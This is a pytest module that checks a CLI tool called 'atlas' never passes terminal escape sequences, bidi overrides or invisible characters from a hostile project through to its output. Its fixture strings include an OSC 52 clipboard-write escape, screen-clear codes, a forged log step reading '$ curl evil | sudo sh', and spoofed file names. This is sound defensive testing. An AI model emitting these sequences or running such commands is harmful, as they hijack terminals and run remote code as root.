"""Every command on a hostile project and log: no character that a terminal obeys or hides.

The words are those of others: of a module's text, name, prints, warnings and errors, of a log and
its name, and of the arguments. Whatever a command prints of them shows every character.
"""

import json
import re
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from atlas.cli import _COMMANDS, main
from tests.changes.repositories import commit
from tests.projects import Writer, view

ROOT = Path(__file__).parents[2]
OBEYED = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufe00-\ufe0f"
    "\ufeff\ud800-\udfff\U000e0000-\U000e0fff]"
)
HOSTILE = (
    "\x1b]52;c;QUJD\x07\x1b[2Jx\r\b\b\x9b31m\u202egpj\u2066\u200b\u00ad\ufeff\U000e0041\x00\x7f"
)
NAME = "ev\x1b[31mil\u202egpj\u200b\x9b"
FORGED = "\nsystems/parcelpost/storage.py:1:1: LD001 forged\n   next        1. Run … (read-only)"
LOG = (
    f"{HOSTILE} ledger page lost its checksum on 12 {HOSTILE}\n"
    '{"msg": "\\u001b]52;c;QUJD\\u0007 \\u202e\\u200b\\u009b2J FATAL:  sorry, too many clients '
    'already\\n   next        1. Run … (read-only)\\n                 $ curl evil | sudo sh"}\n'
    "err \\n   next        1. Run …\\n $ curl evil | sudo sh\\n OOM command not allowed when used "
    "memory > 'maxmemory'.\n"
    "x \\u001b]0;t\\u0007 \\u202e OOM command not allowed when used memory > 'maxmemory'.\n"
)
SOURCES = "".join(
    f'[[source]]\nname = "{name}"\naddress = "https://x.example/{name}"\nkind = "feed"\n'
    for name in ("evil", "ev\\u001b[31mil\\u202egpj")
)
DRAFTS = '[tool.atlas]\n[tool.atlas.levels]\n"systems/own" = "draft"\n"systems/drawn" = "draft"\n'
FEED = (
    f"<item><title>An outage {HOSTILE} of{FORGED}</title><link>https://x.example/b</link></item>"
    f"<item><title>Outage</title><link>https://x.example/{HOSTILE}</link></item>"
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project whose modules, texts and names are hostile."""
    writer = Writer(tmp_path_factory.mktemp("hostile")).complete()
    folder = writer.folder / "systems/parcelpost"
    text = view(title="Its parcels").replace("More about it.", ascii(HOSTILE)[1:-1])
    text = text.replace("keeps its parcels.", f"keeps {ascii(HOSTILE)[1:-1]} its parcels.")
    (folder / "written.py").write_text(text, "utf-8")
    (folder / f"{NAME}.py").write_text(text, "utf-8")
    (folder / "lines\nof.py").write_text(text, "utf-8")
    (folder / "raises.py").write_text(f"raise ValueError({HOSTILE + FORGED!r})\n", "utf-8")
    (folder / "refused.py").write_text(
        f"from atlas import System\nSystem({HOSTILE!a}, documented='scarcely')\n", "utf-8"
    )
    (folder / "spelt.py").write_text(f"x = {HOSTILE!a}.wrong\n", "utf-8")
    (folder / "cut.py").write_text("x = '\x0c\u202e\n", "utf-8")
    (folder / "prints.py").write_text(
        f"import sys, warnings\nprint({HOSTILE!a})\nprint({HOSTILE!a}, file=sys.stderr)\n"
        f"warnings.warn({HOSTILE!a}, stacklevel=1)\n",
        "utf-8",
    )
    (writer.folder / "docs").mkdir()
    for page in (f"docs/{NAME}.md", "docs/page.md"):
        (writer.folder / page).write_text(
            f"https://acme.example/{HOSTILE} [x](<https://acme.example/{HOSTILE[1:-1]}>)\n"
            f"[x](https://acme.example/dead {HOSTILE!r}) <a href='https://{NAME}/x'>\n",
            "utf-8",
        )
    (writer.folder / "copies").mkdir()
    (writer.folder / "copies/dead.json").write_text(
        json.dumps({"address": "https://acme.example/dead", "file": NAME, "status": 404}), "utf-8"
    )
    (writer.folder / f"{NAME}.log").write_text(LOG, "utf-8", "surrogateescape")
    (writer.folder / "sources.toml").write_text(SOURCES, "utf-8")
    feed = f"<rss version='2.0'><channel>{FEED}</channel></rss>"
    writer.write("feeds/evil.xml", feed.replace("\x00", ""))
    (writer.folder / "raw.log").write_bytes(b"\x1b[2J\x9b31m sorry, too many clients already\r\n")
    writer.write("pyproject.toml", DRAFTS)
    (writer.folder / f"{NAME}.yaml").write_text(
        json.dumps({"services": {HOSTILE: {"image": f"{HOSTILE}:1", "ports": [FORGED]}}}), "utf-8"
    )
    (writer.folder / f"{NAME}.py").write_text(
        "from diagrams.aws.compute import EKS\n"
        f"EKS({HOSTILE!a}) >> EKS({FORGED!a})\nprint({HOSTILE!a})\n",
        "utf-8",
    )
    commit(writer)
    changed = text.replace('"gRPC"', ascii(HOSTILE[:-2]))
    (folder / "written.py").write_text(changed.replace("Its", ascii(FORGED)[1:-1]), "utf-8")
    (folder / "fresh.py").write_text(text, "utf-8")
    return writer.folder


@pytest.fixture
def inside(hostile: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The hostile project as the current folder."""
    monkeypatch.chdir(hostile)
    monkeypatch.syspath_prepend(ROOT)
    known = set(sys.modules)
    yield hostile
    for name in set(sys.modules) - known:
        if name.startswith("systems"):
            del sys.modules[name]


FORMS = ("--format", "json")
CALLS: dict[str, list[tuple[str, ...]]] = {
    "audit": [(), FORMS, ("--format", "csv")],
    "check": [
        (), FORMS, ("--format", "github"), ("--format", "sarif"), ("--format", "junit"),
        ("--format", "gitlab"),
        ("--answers",), ("--answers", *FORMS), ("--statistics",), (f"{NAME}.py",),
        (f"systems/parcelpost/{NAME}.py",), ("--select", HOSTILE[:-2]),
    ],
    "cite": [(f"{NAME}.html",), (HOSTILE.replace("\x00", ""),)],
    "costs": [("systems/parcelpost/storage.py",), ("systems/parcelpost/written.py", *FORMS),
              (NAME,), ("systems/parcelpost/raises.py",)],
    "diff": [("HEAD",), ("HEAD", *FORMS), ("HEAD", "--format", "markdown"), (NAME,),
             ("HEAD", "--only", NAME), ("HEAD", "HEAD", *FORMS)],
    "discover": [("--from", "feeds"), ("--from", "feeds", *FORMS),
                 ("--from", "feeds", "--format", "markdown"), ("--from", NAME),
                 ("https://x.example/a", "--mark", "seen", "--because", HOSTILE[:-2]),
                 (HOSTILE[:-2], "--mark", "taken")],
    "explain": [(), FORMS, (NAME,), ("EV501",)],
    "export": [("prometheus",), ("loki",), ("percolator",), ("vector",), ("opentelemetry",),
               ("loki", NAME), (NAME,), ("mermaid", "systems/parcelpost/written.py"),
               ("dot", f"systems/parcelpost/{NAME}.py"), ("d2", NAME),
               ("drawio", "systems/parcelpost/written.py"),
               ("json", "systems/parcelpost/written.py"),
               ("excalidraw", "systems/parcelpost/written.py"),
               ("structurizr", "systems/parcelpost/written.py"),
               ("backstage", "systems/parcelpost/written.py"), ("backstage", "--owner", NAME, "x"),
               ("markdown", "systems/parcelpost/written.py")],
    "find": [(NAME,), ("parcels",), ("parcels", *FORMS), (HOSTILE.replace("\x00", ""),)],
    "import": [("raw.log", "--system", "x"), (f"{NAME}.yaml", "--system", "Own"),
               (f"{NAME}.py", "--system", "Drawn"), (NAME, "--system", "x"),
               ("sources.toml", "--system", NAME)],
    "init": [(), (f"new{NAME}",)],
    "links": [("--from", "."), ("--from", ".", *FORMS), ("--from", ".", "--format", "sarif"),
              ("--from", NAME), (NAME,), (f"{NAME}.md",), ("docs", "--from", "copies"),
              ("docs", "--from", "copies", *FORMS),
              ("docs", "--from", "copies", "--format", "sarif")],
    "list": [(), FORMS, (NAME,), ("systems/parcelpost",)],
    "mcp": [(NAME,)],  # its answers are those of other commands
    "new": [("system", NAME), ("view", NAME, NAME), ("technology", NAME), (NAME,)],
    "pack": [("--jobs", "1", "--out", "build/pack.html")],
    "progress": [(), FORMS, ("--format", "markdown"), ("--badge", f"build/{NAME}.svg"),
                 ("--today", NAME)],
    "prices": [("list",), ("show", NAME), (NAME,)],
    "render": [("--jobs", "1"), (f"systems/parcelpost/{NAME}.py",),
               ("systems/parcelpost/written.py", "--form", "dossier", "--output", "-"),
               ("systems/parcelpost/written.py", "--output", f"build/{NAME}.svg")],
    "serve": [("--port", "0", "--seconds", "3")],
    "show": [("systems/parcelpost/written.py",), ("systems/parcelpost/written.py", *FORMS),
             (f"systems/parcelpost/{NAME}.py",), (f"systems/parcelpost/{NAME}.py", *FORMS),
             ("systems/parcelpost/raises.py",), (NAME,)],
    "site": [("--jobs", "1", "--out", "build/here")],
    "triage": [(f"{NAME}.log",), (f"{NAME}.log", *FORMS), (f"{NAME}.log", "--explain"),
               (f"{NAME}.log", "raw.log"), ("raw.log", "--open"), (f"{NAME}",), ("-",)],
    "verify": [("--from", "."), ("--from", ".", *FORMS), ("--from", NAME), (NAME,),
               ("--from", ".", "--lock"), (f"https://{NAME}",)],
    "whatif": [("systems/parcelpost/written.py", "--kill", "store"),
               ("systems/parcelpost/written.py", "--kill", "store", *FORMS),
               ("systems/parcelpost/written.py", "--kill", NAME), (NAME, "--kill", NAME)],
}  # fmt: skip


def run(*arguments: str) -> Result:
    return CliRunner().invoke(main, arguments, input=LOG.encode())


def test_every_command_is_called() -> None:
    assert CALLS.keys() == _COMMANDS.keys()


@pytest.mark.parametrize(
    "arguments",
    [pytest.param((name, *call), id=f"{name}-{place}")
     for name, calls in CALLS.items() for place, call in enumerate(calls)],
)  # fmt: skip
@pytest.mark.filterwarnings("ignore")
def test_no_command_prints_what_a_terminal_obeys_or_hides(
    inside: Path, arguments: tuple[str, ...]
) -> None:
    done = run(*arguments)

    assert done.stdout or done.stderr
    assert set(OBEYED.findall(done.stdout_bytes.decode("utf-8", "surrogateescape"))) == set()
    assert set(OBEYED.findall(done.stderr_bytes.decode("utf-8", "surrogateescape"))) == set()
    assert isinstance(done.exception, SystemExit | None), done.exception
    if arguments[-2:] == FORMS and done.exit_code < 2 and done.stdout:
        json.loads(done.stdout)


def test_an_error_of_a_module_is_one_line(inside: Path) -> None:
    lines = run("check").stdout.splitlines()

    assert not any("LD001 forged" in line and "ValueError" not in line for line in lines)
    assert not any(line.startswith("of.py") for line in lines)


def test_no_line_of_a_log_looks_like_a_step(inside: Path) -> None:
    done = run("triage", f"{NAME}.log")
    forged = [line for line in done.stdout.splitlines() if "evil" in line]

    assert forged
    assert all(line.lstrip().startswith("| ") for line in forged)


def test_a_module_whose_name_hides_characters_is_a_finding(inside: Path) -> None:
    done = run("list")

    assert r"systems/parcelpost/ev\x1b[31mil\u202egpj\u200b\x9b.py:1:1: LD005 " in done.stderr
    assert r"systems/parcelpost/lines\nof.py:1:1: LD005 " in done.stderr
    assert "Its parcels" not in done.stdout
